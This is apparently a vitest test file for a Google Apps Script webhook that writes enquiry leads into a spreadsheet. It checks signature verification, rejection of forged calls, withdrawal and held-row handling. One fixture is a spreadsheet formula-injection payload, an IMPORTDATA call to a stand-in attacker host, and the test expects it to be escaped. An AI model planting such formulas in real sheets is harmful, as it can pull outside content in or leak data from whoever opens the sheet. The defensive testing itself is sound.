/** The script of a sheet (deploy/sheet.gs) takes the calls of the real webhook, and no others. */

import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createContext, runInContext } from 'node:vm';
import { afterEach, expect, test } from 'vitest';
import { sampleEditions } from '../../../tests/support/firms.ts';
import { allLeads, makeSubmission, testConfig, testLog, testStore } from '../store/testing/fixtures.ts';
import { startOutbox } from './outbox.ts';
import { createClock, eventually, stopAll, stopLater, testHook } from './testing/fixtures.ts';

const SECRET = 'sixteen characters or more';
afterEach(stopAll);

interface Event {
  readonly parameter: Readonly<Record<string, string>>;
  readonly postData: { readonly contents: string };
}

/** Gives the script what Google's script engine does, over rows in memory. */
const scriptWith = (rows: string[][]) => {
  const sheet = {
    getLastRow: () => rows.length,
    appendRow: (row: string[]) => rows.push([...row]),
    getDataRange: () => ({ getValues: () => rows }),
    getRange: (from: number) => ({ setValues: ([row = []]: string[][]) => void rows.splice(from - 1, 1, [...row]) }),
  };
  const context = createContext({
    PropertiesService: { getScriptProperties: () => ({ getProperty: () => SECRET }) },
    Utilities: {
      Charset: { UTF_8: 'utf8' },
      computeHmacSha256Signature: (text: string, key: string) => createHmac('sha256', key).update(text).digest(),
      base64Encode: (bytes: Buffer) => bytes.toString('base64'),
    },
    LockService: { getScriptLock: () => ({ waitLock: () => undefined, releaseLock: () => undefined }) },
    HtmlService: { createHtmlOutput: (text: string) => text },
    SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
  });
  const file = join(import.meta.dirname, '..', '..', '..', 'deploy', 'sheet.gs');
  runInContext(readFileSync(file, 'utf8'), context);
  return (event: Event): string => {
    context.event = event;
    return runInContext('doPost(event)', context) as string;
  };
};

const startSheet = async (status: number) => {
  const rows: string[][] = [];
  const doPost = scriptWith(rows);
  const events: Event[] = [];
  const { origin } = await testHook(({ url, body }) => {
    const parameter = Object.fromEntries(new URL(url, 'http://sheet').searchParams);
    const event = { parameter, postData: { contents: body } };
    events.push(event);
    return { status, location: 'http://127.0.0.1:9/', body: doPost(event) };
  });
  const env = {
    WEBHOOK_URL: `${origin}/macros/s/1/exec?sheet=1`,
    WEBHOOK_SECRET: SECRET,
    WEBHOOK_SIGNATURE: 'address',
  };
  const config = testConfig(env);
  const store = await testStore(config);
  const clock = createClock();
  stopLater(startOutbox({ editions: sampleEditions(), store, config, log: testLog(), pollEvery: 20, now: clock.now }));
  return { rows, doPost, events, store, clock };
};

test.each([200, 302])('loses a row after a withdrawal, answering %i', async (status) => {
  const { rows, doPost, events, store, clock } = await startSheet(status);
  const submitted = await store.submit(
    makeSubmission({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
  );
  const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
  await eventually(() => expect(rows).toHaveLength(2));
  expect(rows[1]?.slice(1)).toEqual([
    receipt?.reference,
    expect.stringMatching(/^\d{4}-/),
    'GST Registration',
    '\'=IMPORTDATA("https://evil.example")',
    "'+91 98765 43210",
    'meena@example.org',
    "'\u00a0=வணக்கம்",
    '',
  ]);
  const [event] = events;
  if (!event) throw new Error('no call was made');
  expect(event.parameter.sheet).toBe('1');
  expect(doPost(event)).toBe('ok');
  const { parameter, postData } = event;
  const forged: Event[] = [
    { parameter, postData: { contents: postData.contents.replace('Registration', 'Refunds') } },
    { parameter: { ...parameter, 'webhook-id': 'another' }, postData },
    { parameter: { ...parameter, 'webhook-timestamp': '1' }, postData },
    { parameter: { ...parameter, 'webhook-signature': '' }, postData },
    { parameter: {}, postData },
  ];
  for (const each of forged) expect(doPost(each)).toBe('refused');
  expect(rows).toHaveLength(2);
  await eventually(async () =>
    expect(await store.db.selectFrom('outbox').select('state').execute()).toEqual([{ state: 'sent' }]),
  );
  expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', clock.now())).result).toBe('ok');
  await eventually(() => expect(rows[1]?.slice(3)).toEqual(['', 'WITHDRAWN', '', '', '', '']));
  expect(rows).toHaveLength(2);
  expect(events[1]?.postData.contents).not.toMatch(/meena|43210|IMPORT/i);
});

test("marks a held enquiry's row until its release", async () => {
  const { rows, store, clock } = await startSheet(200);
  await store.submit(makeSubmission({ state: 'held', reasons: ['flood'], receivedAt: clock.now() }));
  clock.pass(40_000);
  await eventually(() => expect(rows[1]?.[3]).toBe('HELD AS DOUBTFUL GST Registration'));
  const [lead] = await allLeads(store);
  await store.desk.notSpam(lead?.id ?? '', 'staff', clock.now());
  await eventually(() => expect(rows[1]?.[3]).toBe('GST Registration'));
  expect(rows).toHaveLength(2);
});
